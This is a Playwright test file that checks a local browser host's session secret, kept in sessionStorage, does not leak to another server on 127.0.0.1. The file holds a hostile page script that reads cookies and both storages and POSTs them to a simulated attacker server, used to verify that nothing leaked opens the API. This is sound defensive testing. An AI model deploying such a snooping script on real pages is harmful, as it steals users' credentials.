/**
 * The browser host's credential model in Chromium (docs/SECURITY.md, "Browser host credential
 * model"): no cookie carries a credential. The page trades the printed launch token for a session
 * secret kept in sessionStorage (per origin, so per port, and per tab) and sent as a header; the
 * token leaves the address bar; a reload keeps working; and another server on 127.0.0.1 — which
 * a cookie would reach, cookies being blind to ports — receives nothing that opens the API.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, pageSession, test, watchPage } from './host.js';

test.use({ hostOptions: { file: 'credential' } });

interface Received {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** What a hostile page on the other port tries to read: cookies and both storages of its origin. */
const SNOOP_PAGE = `<!doctype html><title>other local server</title><script>
  const dump = (s) => { const o = {}; for (let i = 0; i < s.length; i++) { const k = s.key(i); o[k] = s.getItem(k); } return o; };
  fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, local: dump(localStorage), session: dump(sessionStorage) }) });
</script><p>other</p>`;

/** Another local server: records every request it gets, serves SNOOP_PAGE at / and takes its /report. */
async function startOtherServer() {
  const received: Received[] = [];
  let reported: (report: string) => void = () => {};
  const report = new Promise<string>((resolve) => (reported = resolve));
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      if (req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(SNOOP_PAGE);
      } else if (req.url === '/report') {
        res.writeHead(204);
        res.end();
        reported(body);
      } else {
        res.writeHead(204); // /favicon.ico and the like: nothing, and no console error
        res.end();
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    received,
    report,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Status of an API call to the host from outside the browser, with `secret` as the Bearer token. */
function callWith(port: number, secret: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: '127.0.0.1',
        port,
        path: '/api/workbook.current',
        method: 'POST',
        headers: { authorization: `Bearer ${secret}`, 'content-type': 'application/json' },
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      },
    );
    req.on('error', reject);
    req.end('{}');
  });
}

/** Every string in what the other server received, whole and split into its parts. */
function candidates(received: Received[], report: string): string[] {
  const found = new Set<string>();
  const add = (value: string) => {
    if (value === '') return;
    found.add(value);
    for (const part of value.split(/[\s;,=:"{}[\]]+/)) if (part !== '') found.add(part);
  };
  const walk = (value: unknown) => {
    if (typeof value === 'string') add(value);
    else if (value && typeof value === 'object') {
      for (const [k, v] of Object.entries(value)) {
        add(k);
        walk(v);
      }
    }
  };
  for (const r of received) {
    add(r.url);
    add(r.body);
    for (const [name, value] of Object.entries(r.headers)) {
      add(name);
      for (const v of Array.isArray(value) ? value : [value ?? '']) add(v);
    }
  }
  walk(JSON.parse(report) as unknown);
  return [...found];
}

test('no cookie carries a credential: another local server gets nothing that opens the API; the token leaves the address bar; a reload keeps working', async ({
  page,
  context,
  host,
}) => {
  const watch = watchPage(page);
  const printed = new URL(host.url);
  const token = printed.searchParams.get('token')!;
  const hostPort = Number(printed.port);

  // Every header of every response from the host, Set-Cookie included (allHeaders keeps it).
  const setCookies: string[] = [];
  const pending: Promise<void>[] = [];
  page.on('response', (response) => {
    if (new URL(response.url()).port !== printed.port) return;
    pending.push(
      response.allHeaders().then((headers) => {
        if (headers['set-cookie'] !== undefined) setCookies.push(`${response.url()}: ${headers['set-cookie']}`);
      }),
    );
  });

  await page.goto(host.url);
  await expect(page.getByRole('heading', { level: 1, name: /Muara Enim/ })).toBeVisible();
  // The token is out of the address bar (and out of this tab's history entry).
  await expect(page).not.toHaveURL(/token=/);
  expect(page.url()).not.toContain(token);
  expect(page.url()).toBe(`http://127.0.0.1:${hostPort}/`);

  const session = await pageSession(page);
  expect(session).not.toBe(token);
  expect(session.length).toBeGreaterThanOrEqual(32);
  // The probe below can tell: the page's own secret does open the API from outside the browser.
  expect(await callWith(hostPort, session)).toBe(200);
  expect(await callWith(hostPort, token)).toBe(401);

  // A reload keeps working, on the same session, with no token in sight.
  await page.reload();
  await expect(page.getByRole('heading', { level: 1, name: /Muara Enim/ })).toBeVisible();
  await expect(page.getByTestId('open-file')).toContainText(/\.rpjmd/);
  expect(page.url()).not.toContain(token);
  expect(await pageSession(page)).toBe(session);

  // The browser holds no cookie at all, and the host never tried to set one.
  expect(await context.cookies()).toEqual([]);
  await Promise.all(pending);
  expect(setCookies).toEqual([]);

  // Another server on 127.0.0.1, another port: navigate the same tab to it.
  const other = await startOtherServer();
  try {
    await page.goto(`http://127.0.0.1:${other.port}/`);
    const report = await other.report;
    const first = other.received.find((r) => r.url === '/')!;
    expect(first).toBeDefined();
    for (const r of other.received) {
      expect(r.headers.cookie, `${r.method} ${r.url}`).toBeUndefined();
      expect(r.headers.authorization, `${r.method} ${r.url}`).toBeUndefined();
      expect(r.headers.referer ?? '', `${r.method} ${r.url}`).not.toContain(String(hostPort));
    }
    // Its page reads no cookie and finds nothing of ours in its own storage.
    expect(JSON.parse(report)).toEqual({ cookie: '', local: {}, session: {} });

    // Nothing it received opens the API: each value, whole and in parts, as the Bearer token → 401.
    const values = candidates(other.received, report);
    expect(values.length).toBeGreaterThan(10);
    for (const value of values) expect(await callWith(hostPort, value), value).toBe(401);
  } finally {
    await other.close();
  }

  // Back in the tab's history: the app's entry has no token, and its session is still there.
  await page.goBack();
  await expect(page.getByRole('heading', { level: 1, name: /Muara Enim/ })).toBeVisible();
  expect(page.url()).toBe(`http://127.0.0.1:${hostPort}/`);
  expect(await pageSession(page)).toBe(session);

  await Promise.all(pending);
  expect(setCookies).toEqual([]);
  expect(await context.cookies()).toEqual([]);
  await watch.expectClean();
});

test('a second tab needs the printed address again and gets a session of its own', async ({ context, host }) => {
  const first = await context.newPage();
  await first.goto(host.url);
  await expect(first.getByRole('heading', { level: 1, name: /Muara Enim/ })).toBeVisible();
  const firstSession = await pageSession(first);

  // The bare address in a new tab: no session in that tab's storage, so access is refused.
  const bare = await context.newPage();
  await bare.goto(`${new URL(host.url).origin}/`);
  await expect(bare.getByText('Akses ditolak: buka kembali alamat lengkap yang dicetak oleh host.')).toBeVisible();

  // The printed address again: that tab trades the token for its own session.
  const second = await context.newPage();
  const watch = watchPage(second);
  await second.goto(host.url);
  await expect(second.getByRole('heading', { level: 1, name: /Muara Enim/ })).toBeVisible();
  const secondSession = await pageSession(second);
  expect(secondSession).not.toBe(firstSession);
  expect(await callWith(Number(new URL(host.url).port), firstSession)).toBe(200);
  expect(await context.cookies()).toEqual([]);
  await watch.expectClean();
});
